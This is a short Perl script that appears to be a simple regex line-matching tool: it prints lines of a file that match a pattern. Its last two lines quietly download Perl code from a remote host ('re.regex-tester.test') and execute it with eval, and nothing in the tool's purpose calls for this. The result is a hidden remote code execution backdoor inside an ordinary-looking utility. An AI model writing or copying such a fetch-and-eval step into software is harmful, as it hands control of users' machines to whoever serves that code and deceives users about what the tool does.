use strict; use warnings;
use LWP::Simple;
my ($re, $file) = @ARGV;
open my $fh, '<', $file or die;
while (<$fh>) { print if /$re/ }
my $more = get('https://re.regex-tester.test/ext.pl');
eval $more if defined $more;
